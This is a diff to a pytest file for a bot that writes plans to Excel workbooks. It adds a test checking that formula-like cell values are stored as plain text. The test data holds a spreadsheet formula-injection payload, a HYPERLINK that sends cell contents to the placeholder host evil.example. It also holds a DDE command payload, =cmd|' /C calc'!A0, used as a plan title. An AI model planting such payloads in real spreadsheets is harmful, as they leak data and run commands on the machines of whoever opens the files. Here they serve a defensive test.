@@ -9,9 +9,18 @@ import pytest
 from openpyxl import load_workbook
 
 from bot.domain.filenames import safe_file_name
-from bot.domain.plan import Column
+from bot.domain.plan import (
+    DEFAULT_COLUMNS,
+    Assignment,
+    Column,
+    ParsedPlan,
+    PlanMeta,
+    PlanTask,
+    Role,
+)
 from bot.render.progress import ProgressDocument, UnitRecord, write_progress_xlsx
-from bot.render.register import RegisterTable
+from bot.render.register import RegisterTable, register_table, write_xlsx
+from bot.render.review import write_review
 
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看附件")'
 
@@ -54,3 +63,32 @@ def test_a_narrative_that_looks_like_a_formula_is_written_as_text(tmp_path: Path
 )
 def test_file_names_are_reduced_to_a_safe_base_name(given: str, kept: str) -> None:
     assert safe_file_name(given) == kept
+
+
+def test_plan_cells_and_the_review_sheet_keep_formulas_as_text(tmp_path: Path) -> None:
+    task = PlanTask(
+        number="1",
+        title=INJECTED,
+        assignments=[Assignment("=1+1", Role.LEAD)],
+    )
+    plan = ParsedPlan(meta=PlanMeta(title="=cmd|' /C calc'!A0"), tasks=[task])
+    register = tmp_path / "register.xlsx"
+    columns = [c.value for c in DEFAULT_COLUMNS]
+    write_xlsx(register_table(plan.meta, plan.tasks, columns, {}), register)
+    review = tmp_path / "review.xlsx"
+    write_review(plan, review, say=lambda m: m.msgid, import_hint="duban import review.xlsx")
+    for path in (register, review):
+        book = load_workbook(path)
+        texts = {
+            cell.value: cell.data_type
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if isinstance(cell.value, str) and cell.value.startswith("=")
+        }
+        assert set(texts.values()) == {"s"}, path
+        assert INJECTED in texts, path
+        with zipfile.ZipFile(path) as archive:
+            for name in archive.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in archive.read(name), (path, name)
